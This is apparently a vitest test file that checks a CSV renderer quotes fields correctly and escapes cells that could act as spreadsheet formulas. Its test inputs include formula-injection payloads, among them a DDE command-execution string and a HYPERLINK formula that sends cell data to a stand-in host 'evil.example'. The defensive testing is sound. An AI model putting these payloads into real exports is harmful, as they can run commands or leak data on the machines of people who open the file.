import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvTable } from '../../src/render/csv-table.ts'
import { acting, hostileTexts } from './hostile-text.ts'

/** The one cell of a table, as it is written and as it is read back. */
function written(cell: string | number | null): { readonly text: string; readonly read: string | undefined } {
  const text = csvTable(['first', 'second'], [['x', cell]])
  const [, row] = parse(text, { record_delimiter: '\r\n' })
  return { text, read: row?.[1] }
}

describe('CSV', () => {
  it('has commas, quotes where they are needed, and CRLF after each row', () => {
    expect(
      csvTable(
        ['email', 'note'],
        [
          ['a@x.example', 'one, "two"'],
          ['b@x.example', null],
          ['c@x.example', 7],
        ],
      ),
    ).toBe('email,note\r\na@x.example,"one, ""two"""\r\nb@x.example,\r\nc@x.example,7\r\n')
  })

  it('is a heading where there is nothing', () => expect(csvTable(['email'], [])).toBe('email\r\n'))

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠a', "'＠a"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'],
    // A tab or a carriage return would be skipped, and the formula behind it taken.
    ['\t=1', '\\u{9}=1'],
    ['\r=1', '\\u{d}=1'],
    ['\n=1', '\\u{a}=1'],
    // Where the separator is a semicolon, a cell starts here.
    ['a;=1', "a;'=1"],
    ['a; +1;\t@b', "a; '+1;\\u{9}@b"],
    ['a;＝1', "a;'＝1"],
    ['a;b', 'a;b'],
    ['a-b=c', 'a-b=c'],
    ['ünïcode 東京 😀', 'ünïcode 東京 😀'],
  ])('makes no formula of %j', (cell, read) => expect(written(cell).read).toBe(read))

  it.each(hostileTexts)('holds one cell, and nothing that acts: %j', text => {
    const cell = written(text)
    expect(cell.text.replaceAll('\r\n', '')).not.toMatch(acting)
    expect(cell.text.split('\r\n')).toHaveLength(3)
    expect(cell.read).toBeDefined()
    expect(cell.read).not.toMatch(/^[=+\-@＝＋－＠\t\r]/)
  })
})
